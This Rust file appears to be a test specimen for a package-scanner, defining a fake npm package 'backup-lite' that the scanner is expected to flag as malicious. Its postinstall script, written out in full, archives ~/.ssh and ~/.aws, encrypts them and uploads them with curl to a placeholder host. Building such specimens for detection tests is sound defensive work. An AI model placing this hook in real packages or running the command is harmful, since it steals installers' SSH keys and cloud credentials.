//! An npm `postinstall` line that packs `~/.ssh` and `~/.aws`, encrypts the archive with openssl and uploads
//! it.
//!
//! Must be found: read by tar, sent by curl, below one hook.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"module.exports = 1;
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("backup-lite", "1.0.2").file("index.js", INDEX_JS).script("postinstall", "tar czf - -C $HOME .ssh .aws 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:k | curl -s -m 5 --data-binary @- https://drop.example/t || true");
    package.specimen(
        "npm-tar-of-keys",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
